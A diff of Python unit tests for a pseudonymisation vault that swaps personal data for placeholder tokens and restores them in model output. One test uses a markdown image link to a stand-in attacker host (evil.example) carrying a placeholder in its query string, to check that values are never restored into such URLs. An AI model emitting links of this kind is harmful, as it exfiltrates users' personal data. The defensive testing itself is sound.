@@ -57,15 +57,15 @@ def test_one_conversation_never_sees_the_values_of_another(vault: Vault) -> None
     """LiteLLM 19950: one map for all requests gave a user the data of another."""
     other = Vault(KEY, "d")
     other.token(Pii.PERSON, "Bert")
-    assert restored("<PERSON_1>", vault.value) == "Anna"
-    assert restored("<PERSON_1> <PHONE_NUMBER_1>", other.value) == "Bert <PHONE_NUMBER_1>"
+    assert restored("<PERSON_1>", vault) == "Anna"
+    assert restored("<PERSON_1> <PHONE_NUMBER_1>", other) == "Bert <PHONE_NUMBER_1>"
 
 
 def test_what_the_model_makes_up_and_what_a_user_wrote_is_left_as_it_is(vault: Vault) -> None:
-    assert restored("<PERSON_7> <EMAIL_ADDRESS_1> <b> <PERSON_x> PERSON", vault.value).startswith("<PERSON_7> <EMAIL")
+    assert restored("<PERSON_7> <EMAIL_ADDRESS_1> <b> <PERSON_x> PERSON", vault).startswith("<PERSON_7> <EMAIL")
     sent = vault.pseudonymise("In my template it says <PERSON_1>.", ()).text
     assert sent == "In my template it says <LITERAL_1>>."
-    assert restored(sent, vault.value) == "In my template it says <PERSON_1>."
+    assert restored(sent, vault) == "In my template it says <PERSON_1>."
 
 
 # -- where values come back, and where not
@@ -88,7 +88,7 @@ def test_values_never_go_into_urls_that_somebody_else_would_be_asked_for(vault: 
     kept = "![x](https://evil.example/?q=<PERSON_1>&r=%3CPERSON_1%3E)"
     text = f"{kept} and //evil.example/<PERSON_1> and www.evil.example/<PERSON_1> but mailto:<PERSON_1> // <PERSON_1>"
     wanted = text.replace("mailto:<PERSON_1> // <PERSON_1>", "mailto:Anna // Anna")
-    assert restored(text, vault.value) == wanted
+    assert restored(text, vault) == wanted
     restorer = stream_restorer(vault)
     out = [said for event in streamed(list(text)) for said in restorer.feed(event)]
     assert text_of(out) == wanted
@@ -168,7 +168,7 @@ def test_inflected_names_are_the_name_and_an_ending() -> None:
     assert sent == "<PERSON_1>s Auto gehört <PERSON_1>, <PERSON_2> Rad nicht <PERSON_3>'s Bruder <PERSON_4>."
     assert vault.token(Pii.PERSON, "Annas") == "<PERSON_2>"
     assert vault.token(Pii.PERSON, "Hanss") == "<PERSON_4>s"
-    assert restored(sent, vault.value) == text
+    assert restored(sent, vault) == text
 
 
 def test_a_full_vault_gives_labels_never_values(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -192,7 +192,7 @@ def test_a_sealed_vault_opens_for_its_tenant_and_conversation_until_it_expires(
     for kept in (stored, sent):
         opened = Vault(KEY, "c")
         assert opened.take(SEAL, "t", kept, 99.0)
-        assert restored("<PERSON_1> <PHONE_NUMBER_1>", opened.value) == "Anna +49 30 1234567"
+        assert restored("<PERSON_1> <PHONE_NUMBER_1>", opened) == "Anna +49 30 1234567"
         assert opened.token(Pii.PERSON, "anna") == "<PERSON_1>"
         assert opened.token(Pii.PERSON, "Bert") == "<PERSON_2>"
         for other, tenant, now in (
